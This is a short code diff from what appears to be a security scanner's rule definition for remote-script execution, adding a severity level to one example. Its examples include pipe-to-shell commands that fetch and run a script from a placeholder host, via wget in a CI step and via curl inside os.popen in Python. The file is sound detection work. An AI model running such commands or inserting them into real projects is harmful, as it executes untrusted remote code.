@@ -47,7 +47,12 @@ export const remoteScript = defineFinding({
         before: 'steps:\n  - run: make\n',
         after: 'steps:\n  - run: wget -qO- https://a.example/i.sh | sudo sh\n',
       },
-      { language: 'python', before: 'f()\n', after: 'os.popen("curl https://a.example/i.sh | sh")\n' },
+      {
+        language: 'python',
+        before: 'f()\n',
+        after: 'os.popen("curl https://a.example/i.sh | sh")\n',
+        severity: 'low',
+      },
     ],
     allows: [
       {
